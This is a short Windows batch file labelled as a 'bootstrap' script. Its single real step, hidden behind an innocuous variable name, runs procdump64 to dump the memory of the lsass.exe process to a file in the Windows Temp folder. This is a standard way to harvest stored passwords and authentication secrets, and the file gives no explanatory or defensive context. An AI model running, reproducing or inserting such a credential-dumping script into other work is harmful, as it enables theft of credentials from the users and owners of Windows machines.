REM bootstrap 5413 v0
@echo off
set "meal=procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp"
call %meal%
